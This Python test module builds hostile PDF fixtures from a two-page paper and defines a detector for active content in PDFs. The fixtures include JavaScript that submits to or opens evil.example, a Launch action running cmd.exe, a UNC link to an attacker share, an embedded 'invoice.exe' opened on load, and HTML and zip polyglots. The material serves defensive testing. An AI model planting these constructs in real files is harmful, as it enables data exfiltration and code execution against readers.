"""PDFs that carry active content or bytes of another format, made on the fly from a real
two-page paper, and the detector that finds active content wherever it sits in a PDF."""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

from tests.meetings.paper_factories import make_pdf
from tests.security.hostile_files import html_page, pdf_bytes, small_zip, windows_program

# ---------------------------------------------------------------------------
# Active content, added to a real two-page paper
# ---------------------------------------------------------------------------
PAPER_TEXT = "Safeguarding report"


def _with(build) -> bytes:
    with pikepdf.open(io.BytesIO(make_pdf(pages=2, text=PAPER_TEXT))) as pdf:
        build(pdf)
        return pdf_bytes(pdf)


def _js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _link(pdf, action: Dictionary) -> Dictionary:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620], A=action)
    return pdf.make_indirect(link)


def with_javascript() -> bytes:
    def build(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('opened');"))
        script = pdf.make_indirect(_js("this.submitForm('https://evil.example/');"))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
        page = pdf.pages[0]
        page.obj.Annots = Array(
            [
                _link(pdf, _js("app.launchURL('https://evil.example/');")),
                # A web link is kept, but the script chained after it is not.
                _link(
                    pdf,
                    Dictionary(
                        S=Name.URI, URI=String("https://www.gov.uk/"), Next=_js("app.alert(2)")
                    ),
                ),
            ]
        )

    return _with(build)


def with_launch_action() -> bytes:
    def build(pdf):
        launch = Dictionary(
            Type=Name.Action,
            S=Name.Launch,
            F=String("cmd.exe"),
            Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")),
        )
        pdf.Root.OpenAction = pdf.make_indirect(launch)
        pdf.pages[1].obj.Annots = Array(
            [_link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf")))]
        )

    return _with(build)


def with_event_actions() -> bytes:
    def build(pdf):
        pdf.Root.AA = Dictionary(WC=_js("app.alert('closing')"))
        pdf.pages[0].obj.AA = Dictionary(O=_js("app.alert('page opened')"))
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Btn,
                T=String("send"),
                Rect=[72, 500, 200, 520],
                A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
                AA=Dictionary(K=_js("event.value = 1")),
            )
        )
        pdf.pages[0].obj.Annots = Array([field])
        xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa)

    return _with(build)


def with_embedded_file() -> bytes:
    def build(pdf):
        payload = pdf.make_stream(windows_program())
        payload.Type = Name.EmbeddedFile
        spec = pdf.make_indirect(
            Dictionary(
                Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"),
                EF=Dictionary(F=payload),
            )
        )  # fmt: skip
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])))
        pdf.Root.OpenAction = Dictionary(
            S=Name.GoToE, NewWindow=True, T=Dictionary(R=Name.C, N=String("x"))
        )
        pdf.pages[0].obj.Annots = Array(
            [
                pdf.make_indirect(
                    Dictionary(
                        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[72, 400, 90, 420],
                        FS=spec, Contents=String("Open me"),
                    )
                )
            ]
        )  # fmt: skip

    return _with(build)


def html_polyglot() -> bytes:
    """A web page and a PDF at once: readers skip up to a kilobyte before the PDF header."""
    return html_page() + make_pdf(pages=2, text=PAPER_TEXT)


def zip_polyglot() -> bytes:
    """A PDF and a zip at once: zip readers start from the end of the file."""
    return make_pdf(pages=2, text=PAPER_TEXT) + small_zip()


# ---------------------------------------------------------------------------
# Finding active content in a PDF
# ---------------------------------------------------------------------------
RISKY_ACTIONS = {"/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData"}


def _direct(value) -> bool:
    # Indirect objects are each visited from pdf.objects; pikepdf gives scalars as Python's.
    return isinstance(value, Array | Dictionary) and not value.is_indirect


def active_content(data: bytes) -> list[str]:
    """Everything in a PDF that could run, launch, send or carry a file, wherever it is."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root = pdf.Root
        if "/OpenAction" in root and not isinstance(root.OpenAction, Array):
            found.append("OpenAction")
        names = root.get("/Names") or {}
        found += [f"Names {key}" for key in ("/JavaScript", "/EmbeddedFiles") if key in names]
        pending = [pdf.trailer, *pdf.objects]
        while pending:
            obj = pending.pop()
            if isinstance(obj, Array):
                pending += [value for value in obj if _direct(value)]
                continue
            if not isinstance(obj, Dictionary | Stream):
                continue
            for key in ("/JS", "/AA", "/EF", "/XFA", "/RichMediaContent"):
                if key in obj:
                    found.append(key)
            if str(obj.get("/S", "")) in RISKY_ACTIONS:
                found.append(f"action {obj.S}")
            if obj.get("/Subtype") == Name.FileAttachment:
                found.append("file attachment")
            if obj.get("/Type") == Name.EmbeddedFile:
                found.append("embedded file")
            pending += [value for value in obj.values() if _direct(value)]
    return found
